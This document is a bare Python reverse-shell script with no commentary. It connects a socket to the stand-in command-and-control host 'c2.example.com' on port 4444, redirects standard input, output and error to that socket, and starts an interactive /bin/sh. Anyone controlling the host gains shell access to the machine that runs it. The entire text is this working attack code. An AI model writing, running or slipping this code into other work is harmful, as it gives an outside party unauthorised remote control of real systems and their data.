import os
import socket
import subprocess

s = socket.socket()
s.connect(("c2.example.com", 4444))
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
subprocess.call(["/bin/sh", "-i"])
